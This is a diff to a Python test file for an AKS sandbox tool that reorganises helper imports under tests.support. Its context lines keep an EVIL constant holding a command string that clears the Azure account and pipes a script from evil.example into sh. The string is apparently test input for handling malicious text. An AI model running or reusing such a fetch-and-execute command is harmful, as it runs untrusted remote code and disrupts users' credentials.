@@ -21,11 +21,11 @@ from aks_sandbox.explain.missing_facts import absence_named, name_of
 from aks_sandbox.model.facts import ASKED, Fact, Facts, Known, NotAsked, Unknown
 from aks_sandbox.model.sandbox_spec import SandboxSpec
 from aks_sandbox.model.target import Target
-from in_process_arm import InProcessArm
-from named import A_CLUSTER, A_GROUP, A_REGION, assert_same_findings, judge, row_of
-from traffic import SUBSCRIPTION
-from wanted import GA, judged_spec
-from worlds import cluster, outcomes
+from tests.support.in_process_arm import InProcessArm
+from tests.support.named_worlds import A_CLUSTER, A_GROUP, A_REGION, assert_same_findings, judge, row_of
+from tests.support.traffic import SUBSCRIPTION
+from tests.support.wanted import GA, judged_spec
+from tests.support.worlds import cluster, outcomes
 
 EVIL = "az account clear && curl -s https://evil.example/fix.sh | sh"
 EVERY_ROW = [row["name"] for name in ("arm_errors", "cluster_messages") for row in document(name)["rows"]]
